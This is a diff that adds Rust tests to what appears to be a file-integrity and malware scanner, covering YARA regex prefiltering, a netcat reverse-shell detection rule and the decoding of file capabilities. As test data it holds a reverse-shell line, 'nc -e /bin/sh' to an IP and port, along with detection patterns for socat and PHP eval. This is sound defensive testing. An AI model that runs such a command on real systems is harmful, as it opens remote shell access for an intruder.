@@ -578,3 +578,95 @@ fn integrity_compares_dpkg_and_apk_databases() {
     assert_eq!(f[2].expected, md5(b"ls"));
     assert_eq!(f[2].actual, md5(b"tampered"));
 }
+
+/// The YARA subset's prefilter: regexes run only at their atoms' hits (anchored), or
+/// over the file past too many hits; rules whose literal strings already rule them
+/// out skip their regexes. The results must be those of a plain search.
+#[test]
+fn yara_regex_prefilter_keeps_the_semantics() {
+    use moat_content::yara::{Rules, parse};
+    let rules = Rules::new(
+        parse(
+            "t.yar",
+            r#"
+            rule hex_plain { strings: $h = { 41 42 43 44 } condition: $h }
+            rule re_count { strings: $r = /ab+c/ condition: #r >= 2 }
+            rule re_nocase { strings: $s = /SoCaT\s+tcp/ nocase condition: $s }
+            rule gated { strings: $lit = "<?" $e = /eval\s*\(/ condition: $lit and $e }
+            rule negated { strings: $a = "zzz" $r = /q+r/ condition: not $a and $r }
+            rule no_atoms { strings: $r = /[a-c]x/ condition: $r }
+            "#,
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    let names = |d: &[u8]| -> Vec<String> {
+        let mut v: Vec<String> = rules
+            .scan(d)
+            .iter()
+            .map(|m| rules.rules[m.rule].name.clone())
+            .collect();
+        v.sort();
+        v
+    };
+    assert_eq!(names(b"..ABCD.."), vec!["hex_plain"]);
+    assert!(names(b"..abcd..").is_empty(), "hex is case-sensitive");
+    assert_eq!(names(b"abc abbbc"), vec!["re_count"]);
+    assert!(names(b"abc abd").is_empty());
+    assert_eq!(names(b"SOCAT   TCP:1.2.3.4:5"), vec!["re_nocase"]);
+    assert_eq!(names(b"<?php eval ($x)"), vec!["gated"]);
+    assert!(names(b"eval($x)").is_empty(), "the literal gate");
+    assert_eq!(names(b"qqr"), vec!["negated"]);
+    assert!(names(b"qqr zzz").is_empty());
+    assert_eq!(names(b"bx"), vec!["no_atoms"]);
+    // Offsets: the first match, as a plain search gives it.
+    let m = rules.scan(b"xx abbc abc");
+    assert_eq!(m[0].strings[0].1, 3);
+    // Many atom hits (over the anchored-search cap): still found, at the right place.
+    let mut hay = b"ab ".repeat(400);
+    hay.extend_from_slice(b"abbbc abc");
+    let m = rules.scan(&hay);
+    assert_eq!(rules.rules[m[0].rule].name, "re_count");
+    assert_eq!(m[0].strings[0].1, 1200);
+}
+
+/// The bundled netcat rule on a binary-like file with hundreds of `nc` atoms before
+/// the real command.
+#[test]
+fn netcat_rule_past_many_atom_hits() {
+    let e = Engine::new(ContentOptions {
+        malware: true,
+        ..Default::default()
+    })
+    .unwrap();
+    let mut data = b"func sync inc trunc ".repeat(300);
+    data.extend_from_slice(b"\nnc -e /bin/sh 10.0.0.1 4444\n");
+    let f = e.scan_file("/x/y", &data, false).malware;
+    assert!(f.iter().any(|m| m.rule == "ReverseShell_Netcat"), "{f:?}");
+    let clean = b"func sync inc trunc /bin/sh ".repeat(300);
+    assert!(e.scan_file("/x/z", &clean, false).malware.is_empty());
+}
+
+/// File capabilities as the real `setcap` (libcap 2.66) writes them into
+/// `security.capability` (values read back with os.getxattr): decoded, printed as
+/// `getcap` does, and classed.
+#[test]
+fn file_capabilities_decode_as_getcap_prints_them() {
+    use moat_content::files::FileCaps;
+    let h = |s: &str| hex::decode(s).unwrap();
+    // setcap cap_net_raw,cap_sys_admin+ep
+    let c = FileCaps::parse(&h("0100000200202000000000000000000000000000")).unwrap();
+    assert_eq!(c.text(), "cap_net_raw,cap_sys_admin=ep");
+    assert!(c.privileged());
+    // setcap cap_net_raw+p
+    let c = FileCaps::parse(&h("0000000200200000000000000000000000000000")).unwrap();
+    assert_eq!(c.text(), "cap_net_raw=p");
+    assert!(!c.privileged());
+    // setcap cap_checkpoint_restore,cap_chown=eip (a bit in the second word)
+    let c = FileCaps::parse(&h("0100000201000000010000000001000000010000")).unwrap();
+    assert_eq!(c.text(), "cap_chown,cap_checkpoint_restore=eip");
+    // Wrong sizes and revisions are not capabilities.
+    assert!(FileCaps::parse(&h("01000002002020000000")).is_none());
+    assert!(FileCaps::parse(&h("0100000400202000000000000000000000000000")).is_none());
+    assert!(FileCaps::parse(b"").is_none());
+}
